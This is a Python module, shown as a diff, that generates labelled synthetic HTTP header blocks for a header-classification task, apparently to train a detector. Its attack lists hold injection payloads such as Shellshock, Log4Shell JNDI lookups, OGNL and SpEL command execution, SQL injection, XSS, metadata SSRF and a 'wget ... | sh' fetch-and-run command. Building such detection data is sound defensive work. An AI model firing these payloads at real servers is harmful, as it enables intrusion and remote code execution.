@@ -1,0 +1,196 @@
+# ruff: noqa: E501 - lists of values
+"""Header lines and blocks of many clients, servers and attacks, with and without the pseudo headers of HTTP/2.
+
+Forms are those that clients and servers document; the labels are those of the task http-header. Attacks stand where they do on a network:
+in one header of a block that is ordinary otherwise, so that neither the block nor a pseudo header tells the class.
+"""
+
+from __future__ import annotations
+
+import random
+import string
+from collections.abc import Callable, Sequence
+
+from tools.synth import uri_payloads, uri_server_side, user_agent
+from tools.synth.words import brand, domain, person, word
+
+Row = tuple[str, str, str]
+Header = tuple[str, str]
+_HEX, _ALNUM = string.digits + "abcdef", string.ascii_letters + string.digits
+_TYPES = ("text/html; charset=utf-8", "application/json", "image/png", "text/css", "application/javascript", "font/woff2", "text/plain",
+          "application/octet-stream", "application/x-www-form-urlencoded", "video/mp4", "application/xml", "image/svg+xml")  # fmt: skip
+_LANGUAGES = ("en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8", "en-GB", "es-ES,es;q=0.9", "ja", "ru-RU,ru;q=0.9", "pt-BR")
+_LIBRARIES = ("okhttp/{a}.{b}.{c}", "axios/{a}.{b}.{c}", "Go-http-client/{d}.1", "Apache-HttpClient/{a}.{b}.{c} (Java/1.8.0_{n})", "curl/8.{b}.{c}",
+              "PostmanRuntime/7.{n}.{c}", "python-requests/2.{n}.{c}", "aiohttp/3.{b}.{c}", "Ruby", "GitHub Desktop", "node-fetch/1.0",
+              "{w}-sdk-go/{a}.{b}.{c}", "{w}-cli/{a}.{b}.{c}", "{w}/{a}.{b} CFNetwork/{n} Darwin/22.6.0", "Dalvik/2.1.0 (Linux; U; Android 1{d})",
+              "python:{w}:v{a}.{b} (by /u/{w}{d})", "{w}API Ruby Gem {a}.{b}.{c}", "{w}Kit/{n} (com.{w}.app; iOS 1{d}.{b})")  # fmt: skip
+_DESKTOPS = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64", "Linux; Android 1{d}; SM-G9{n}")
+_ENGINES = ("AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36", "Gecko/20100101 Firefox/{n}.0",
+            "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/1{d}.{b} Safari/605.1.15",
+            "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36 Edg/{n}.0.{n}.{d}")  # fmt: skip
+_SERVERS = ("Apache/2.4.{n} (Ubuntu)", "nginx/1.{n}.{c}", "Microsoft-IIS/{d}.0", "Apache-Coyote/1.1", "Jetty(9.4.{n}.v20200227)", "lighttpd/1.4.{n}",
+            "Werkzeug/2.{b}.{c} Python/3.{b}.{c}", "gunicorn/20.{b}.{c}", "openresty/1.{n}.{c}.1", "Apache/2.2.{n} (CentOS) PHP/5.{b}.{c}",
+            "PHP/7.{b}.{n} Development Server", "WEBrick/1.4.{c} (Ruby/2.{b}.{c}/2019-01-01)", "Kestrel", "Boa/0.94.14rc{d}", "thttpd/2.{n}b")  # fmt: skip
+_PLAIN_SERVERS = (
+    "nginx",
+    "Apache",
+    "cloudflare",
+    "gws",
+    "AmazonS3",
+    "GitHub.com",
+    "ESF",
+    "AkamaiGHost",
+    "Varnish",
+    "envoy",
+    "Caddy",
+    "tsa_b",
+)
+_INJECTED = (
+    "() {{ :;}}; /bin/bash -c '{c}'", "() {{ :; }}; echo; {c}", "${{jndi:ldap://{h}/a}}", "${{jndi:${{lower:l}}dap://{h}/x}}",
+    "%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{c}')}}", "%{{#context['com.opensymphony.xwork2']}}",
+    "127.0.0.1' OR SLEEP(5)-- -", "1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- ", "'||(select 1 from pg_sleep(5))||'", "<script>alert({n})</script>",
+    '"><img src=x onerror=alert({n})>', "; {c} #", "| {c}", "`{c}`", "$({c})", "../../../../etc/passwd", "{{{{7*7}}}}", "file:///etc/passwd",
+    "http://169.254.169.254/latest/meta-data/", "%0d%0aSet-Cookie: admin=1", 'O:8:"stdClass":1:{{s:4:"test";s:{n}:"{w}";}}',
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{w}", "T(java.lang.Runtime).getRuntime().exec('{c}')", "bytes=0-18446744073709551615",
+    "class.module.classLoader.resources.context.parent.pipeline.first.pattern={w}", "<!DOCTYPE x [<!ENTITY {w} SYSTEM \"file:///etc/hosts\">]>",
+)  # fmt: skip
+_COMMANDS = ("id", "whoami", "cat /etc/passwd", "wget http://{h}/x.sh -O- | sh", "curl {h}/{w}", "ping -c 3 {h}", "nslookup {h}", "sleep 5")
+_CARRIERS = ("User-Agent", "Referer", "X-Forwarded-For", "Cookie", "X-Api-Version", "Content-Type", "X-Forwarded-Host", "Accept-Language",
+             "Authorization", "Origin", "X-Real-IP", "Accept", "X-Client-IP", "True-Client-IP", "If-None-Match", "X-Requested-With", "cmd")  # fmt: skip
+_ATTACK_LINES = (
+    "X-Original-URL: /admin", "X-Rewrite-URL: /{w}/admin", "Transfer-Encoding: chunked, identity", "Transfer-Encoding : chunked", "X-Forwarded-Host: {h}",
+    "x-middleware-subrequest: middleware:middleware:middleware:middleware", "Content-Length: 0, 44", "Connection: close, X-F5-Auth-Token",
+    "X-HTTP-Method-Override: PUT", "Translate: f", "Range: bytes=0-,5-0,5-1,5-2,5-3,5-4", "X-Custom-IP-Authorization: 127.0.0.1",
+    "next-action: {w} | content-type: multipart/form-data", "Authorization: Basic Og==", "User-Agent: Mozilla/5.0' UNION SELECT {n},{n}--",
+)  # fmt: skip
+
+
+def _draw(rng: random.Random, alphabet: str, low: int, high: int) -> str:
+    return "".join(rng.choices(alphabet, k=rng.randint(low, high)))
+
+
+def _filled(rng: random.Random, form: str) -> str:
+    drawn = {"a": rng.randint(0, 6), "b": rng.randint(0, 14), "c": rng.randint(0, 20), "d": rng.randint(0, 9), "n": rng.randint(20, 140)}
+    return form.format(**drawn, w=rng.choice((word, brand))(rng), h=rng.choice((domain(rng), f"{_draw(rng, _HEX, 8, 20)}.oast.fun")))
+
+
+def _browser(rng: random.Random) -> str:
+    return f"Mozilla/5.0 ({_filled(rng, rng.choice(_DESKTOPS))}) {_filled(rng, rng.choice(_ENGINES))}"
+
+
+def _shuffled(rng: random.Random, headers: Sequence[Header], low: int = 1) -> list[Header]:
+    kept = rng.sample(list(headers), rng.randint(low, len(headers)))
+    return kept
+
+
+def _pseudo(rng: random.Random, host: str) -> list[Header]:
+    path = rng.choice(
+        ("/", f"/{word(rng)}", f"/{word(rng)}/{word(rng)}.php", f"/api/v{rng.randint(1, 4)}/{word(rng)}?id={rng.randrange(9999)}")
+    )
+    parts = [(":authority", host), (":method", rng.choice(("GET", "GET", "POST"))), (":path", path), (":scheme", "https")]
+    return rng.sample(parts, rng.randint(1, 4))
+
+
+def _request(rng: random.Random, agent: str, more: Sequence[Header]) -> list[Header]:
+    """A block with an agent; of half of them with HTTP/2's pseudo headers in place of ``Host``."""
+    host = rng.choice((domain(rng), f"www.{domain(rng)}", f"api.{domain(rng)}"))
+    start = _pseudo(rng, host) if rng.random() < 0.5 else [("Host", host)]
+    return [*start, ("User-Agent", agent), *_shuffled(rng, more)]
+
+
+def _browser_block(rng: random.Random) -> list[Header]:
+    more = [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", rng.choice(_LANGUAGES)),
+            ("Accept-Encoding", "gzip, deflate, br"), ("Connection", "keep-alive"), ("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Mode", "navigate"),
+            ("Referer", f"https://{domain(rng)}/{word(rng)}"), ("Cookie", f"{word(rng)}={_draw(rng, _ALNUM, 8, 40)}"), ("Sec-Fetch-Dest", "document"),
+            ("Sec-CH-UA-Platform", rng.choice(('"Windows"', '"macOS"', '"Android"'))), ("DNT", "1"), ("Cache-Control", "max-age=0")]  # fmt: skip
+    return _request(rng, _browser(rng), more)
+
+
+def _client_block(rng: random.Random) -> list[Header]:
+    more = [("Accept", rng.choice(("*/*", "application/json", "application/vnd.api+json"))), ("Accept-Encoding", "gzip, deflate"), ("Connection", "keep-alive"),
+            ("Authorization", f"{rng.choice(('Bearer', 'token', 'Basic', 'bearer'))} {_draw(rng, _ALNUM, 16, 60)}"), ("Content-Type", "application/json"),
+            ("Content-Length", str(rng.randrange(9000))), ("X-Request-Id", _draw(rng, _HEX, 32, 32)), ("X-Api-Key", _draw(rng, _ALNUM, 20, 40)),
+            ("Idempotency-Key", _draw(rng, _HEX, 32, 32)), ("Cookie", f"{word(rng)}={_draw(rng, _ALNUM, 8, 40)}")]  # fmt: skip
+    return _request(rng, _filled(rng, rng.choice(_LIBRARIES)), more)
+
+
+def _response(rng: random.Random, server: str, more: Sequence[Header] = ()) -> list[Header]:
+    plain = [("Date", f"Mon, {rng.randint(1, 28):02} Mar 20{rng.randint(10, 26)} {rng.randint(0, 23):02}:10:{rng.randint(0, 59):02} GMT"),
+             ("Content-Type", rng.choice(_TYPES)), ("Content-Length", str(rng.randrange(99999))), ("Cache-Control", rng.choice(("no-store", "private", "public"))),
+             ("ETag", f'"{_draw(rng, _HEX, 8, 32)}"'), ("Vary", "Accept-Encoding"), ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
+             ("X-Frame-Options", "SAMEORIGIN"), ("X-Content-Type-Options", "nosniff"), ("Content-Encoding", "gzip"), ("Age", str(rng.randrange(9999))),
+             ("Set-Cookie", f"{word(rng)}={_draw(rng, _ALNUM, 8, 40)}; path=/; HttpOnly"), ("X-Ratelimit-Remaining", str(rng.randrange(600))),
+             ("X-Cache", rng.choice(("HIT", "MISS"))), ("Connection", "close"), ("Access-Control-Allow-Origin", "*"), ("P3P", 'CP="NOI DSP"')]  # fmt: skip
+    start = [(":status", rng.choice(("200", "301", "304", "404")))] if rng.random() < 0.3 else []
+    block = [*start, *_shuffled(rng, plain), *([("Server", server)] if server else []), *more]
+    rng.shuffle(block)
+    return block
+
+
+def _ordinary_response(rng: random.Random) -> list[Header]:
+    return _response(rng, rng.choice(("", *_PLAIN_SERVERS)))
+
+
+def _leak(rng: random.Random) -> list[Header]:
+    address = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"
+    forms = [("X-Powered-By", _filled(rng, rng.choice(("PHP/{a}.{b}.{c}", "ASP.NET", "Express", "PleskLin", "Servlet/3.{d} JSP/2.{d}", "Next.js {n}")))),
+             ("X-AspNet-Version", _filled(rng, "4.0.{n}")), ("X-AspNetMvc-Version", _filled(rng, "{d}.{b}")), ("X-Generator", _filled(rng, "Drupal {d}")),
+             ("X-Debug-Token", _draw(rng, _HEX, 6, 8)), ("X-Backend-Server", f"{word(rng)}{rng.randrange(20):02}.internal"), ("Via", f"1.1 {address}:8080"),
+             ("X-Runtime", f"0.{rng.randrange(999999)}"), ("X-Varnish", str(rng.randrange(10**9))), ("X-Served-By", f"{word(rng)}-{rng.randrange(99)}"),
+             ("Server", _filled(rng, rng.choice(_SERVERS))), ("X-Real-Server", address), ("X-Jenkins", _filled(rng, "2.{n}")), ("Liferay-Portal", _filled(rng, "6.{b}.{c}"))]  # fmt: skip
+    chosen = rng.sample(forms, rng.choice((1, 1, 2))) if rng.random() < 0.5 else [("Server", _filled(rng, rng.choice(_SERVERS)))]
+    return chosen if rng.random() < 0.4 else _response(rng, "", chosen)
+
+
+def _payload(rng: random.Random) -> str:
+    roll = rng.random()
+    if roll < 0.25:
+        found = [row for row in [*uri_payloads.generate(rng, 4), *uri_server_side.generate(rng, 4)] if row[1] != "normal"]
+        if found:
+            return rng.choice(found)[0]
+    text = rng.choice(_INJECTED)
+    text = text.replace("{c}", rng.choice(_COMMANDS))
+    return _filled(rng, text)
+
+
+def _attack(rng: random.Random) -> list[Header]:
+    """An attack in a header by itself, or in one of a block."""
+    if rng.random() < 0.2:
+        name, _, value = _filled(rng, rng.choice(_ATTACK_LINES)).partition(": ")
+        line = (name, value)
+    else:
+        line = (rng.choice((*_CARRIERS, f"X-{word(rng).title()}")), _payload(rng))
+    if rng.random() < 0.4:
+        return [line]
+    block = [h for h in rng.choice((_browser_block, _client_block))(rng) if h[0] != line[0]]
+    block.insert(rng.randint(0, len(block)), line)
+    return block
+
+
+def _crawler(rng: random.Random) -> list[Header]:
+    for text, label, _ in user_agent.generate(rng, 12):
+        if label in ("crawler-bot", "attack-tool"):
+            return _request(
+                rng,
+                text,
+                [("Accept", "*/*"), ("Accept-Encoding", "gzip"), ("Connection", "close"), ("From", f"{person(rng)}@{domain(rng)}")],
+            )
+    return _request(rng, f"{brand(rng)}Bot/{rng.randint(1, 5)}.0 (+https://{domain(rng)}/bot)", [("Accept", "*/*")])
+
+
+FORMS: dict[str, Callable[[random.Random], list[Header]]] = {
+    "ordinary-browser": _browser_block, "ordinary-api-client": _client_block, "ordinary-response": _ordinary_response, "server-leak": _leak,
+    "attack": _attack, "crawler-scanner": _crawler,
+}  # fmt: skip
+
+
+def generate(rng: random.Random, n: int) -> list[Row]:
+    """Make ``n`` rows, equally many of each label of ``FORMS``; a third of the ordinary ones are single lines of a block."""
+    labels, rows = list(FORMS), []
+    for i in range(n):
+        label = labels[i % len(labels)]
+        block = FORMS[label](rng)
+        if label.startswith("ordinary-r") and rng.random() < 0.35:
+            block = [rng.choice(block)]
+        rows.append((" | ".join(f"{name}: {value}" for name, value in block), label, "wordlist"))
+    return rows
